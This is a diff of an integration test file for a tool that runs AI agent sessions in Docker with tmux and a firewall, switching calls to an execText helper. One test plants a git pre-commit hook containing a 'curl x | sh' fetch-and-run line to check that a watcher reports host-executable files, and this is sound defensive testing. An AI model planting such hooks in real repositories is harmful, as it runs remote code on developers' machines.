@@ -15,6 +15,7 @@ import { SESSION_SCRIPT } from '../../src/session/sessions.js';
 import { followSessions, watchSessions } from '../../src/session/watch-sessions.js';
 import { dockerAvailable, makeProject, runCli, testEnv, waitFor } from '../support/cli.js';
 import { TerminalHarness } from '../support/terminal.js';
+import { execText } from '../../src/docker/exec.js';
 
 const engine = createDockerEngine();
 const fakeAgentDir = fileURLToPath(new URL('../fixtures/fake-agent', import.meta.url));
@@ -50,7 +51,7 @@ describe.skipIf(!dockerAvailable())('agent sessions (real Docker Engine, tmux an
   const sessions = async () =>
     JSON.parse((await cli(['sessions', project.dir, '--json'])).stdout) as SessionInfo[];
   const sendKeys = (name: string, keys: string) =>
-    engine.exec(project.names.agent, ['tmux', 'send-keys', '-t', `=${name}:`, keys, 'Enter'], {
+    execText(engine, project.names.agent, ['tmux', 'send-keys', '-t', `=${name}:`, keys, 'Enter'], {
       user: 'claude',
     });
 
@@ -222,7 +223,8 @@ describe.skipIf(!dockerAvailable())('agent sessions (real Docker Engine, tmux an
   it('tells the webhook once when a file that runs on the host appears in the workspace', async () => {
     // The background watcher runs while a session does; the agent (or anyone) adds a git hook.
     expect((await sessions()).some((s) => s.running)).toBe(true);
-    const wrote = await engine.exec(
+    const wrote = await execText(
+      engine,
       project.names.agent,
       ['sh', '-c', 'mkdir -p .git/hooks && printf "#!/bin/sh\\ncurl x | sh\\n" > .git/hooks/pre-commit'],
       { user: 'claude', workingDir: '/workspace' },
@@ -262,14 +264,14 @@ describe.skipIf(!dockerAvailable())('agent sessions (real Docker Engine, tmux an
   it('survives 100 attach/detach cycles without losing a keystroke or leaving processes behind', async () => {
     const listClients = async () =>
       (
-        await engine.exec(project.names.agent, ['tmux', 'list-clients', '-F', '#{client_tty}'], {
+        await execText(engine, project.names.agent, ['tmux', 'list-clients', '-F', '#{client_tty}'], {
           user: 'claude',
         })
       ).stdout
         .split('\n')
         .filter(Boolean);
     const attachProcesses = async () =>
-      (await engine.exec(project.names.agent, ['ps', '-eo', 'args'])).stdout
+      (await execText(engine, project.names.agent, ['ps', '-eo', 'args'])).stdout
         .split('\n')
         .filter((line) => line.includes('attach-session'));
     const clientsBefore = await listClients();
@@ -299,7 +301,7 @@ describe.skipIf(!dockerAvailable())('agent sessions (real Docker Engine, tmux an
   it("follows states through the background watcher's feed, and no loop in the container outlives its reader", async () => {
     // Each loop is an exec: its process has no parent inside the container (its own subshells do).
     const loops = async () =>
-      (await engine.exec(project.names.agent, ['ps', '-eo', 'ppid=,args='])).stdout
+      (await execText(engine, project.names.agent, ['ps', '-eo', 'ppid=,args='])).stdout
         .split('\n')
         .filter((line) => /^\s*0\s.*(session watch|follow-screen)/.test(line)).length;
     // `start` left one background watcher for the project, and it keeps the feed.
@@ -332,14 +334,15 @@ describe.skipIf(!dockerAvailable())('agent sessions (real Docker Engine, tmux an
 
   it('stops a session at once, agent and all, and its watchers hear of it without waiting for a look', async () => {
     // An agent that is no session leader of its own: it ends only when the wrapper hands on the hangup.
-    const started = await engine.exec(
+    const started = await execText(
+      engine,
       project.names.agent,
       [SESSION_SCRIPT, 'start', 'short', '80', '24', '--', 'sleep', '1001'],
       { user: 'claude' },
     );
     expect(started.exitCode).toBe(0);
     const agents = async () =>
-      (await engine.exec(project.names.agent, ['ps', '-eo', 'args='])).stdout
+      (await execText(engine, project.names.agent, ['ps', '-eo', 'args='])).stdout
         .split('\n')
         .filter((line) => line === 'sleep 1001').length;
     const lists: SessionInfo[][] = [];
@@ -386,7 +389,7 @@ describe.skipIf(!dockerAvailable())('agent sessions (real Docker Engine, tmux an
     const logs = (...flags: string[]) => cli(['logs', 'colours', ...flags, '--project', project.dir]);
     const sizes = async () =>
       (
-        await engine.exec(project.names.agent, ['cat', '.claude-tui/sessions/colours/sizes'], {
+        await execText(engine, project.names.agent, ['cat', '.claude-tui/sessions/colours/sizes'], {
           user: 'claude',
           workingDir: '/home/claude',
         })
@@ -422,7 +425,7 @@ describe.skipIf(!dockerAvailable())('agent sessions (real Docker Engine, tmux an
   });
 
   it('refuses to start a session while the firewall is not protected', async () => {
-    await engine.exec(project.names.gateway, [
+    await execText(engine, project.names.gateway, [
       'sh',
       '-c',
       'echo "unprotected: a test says so" > /run/claude-tui/firewall-status',
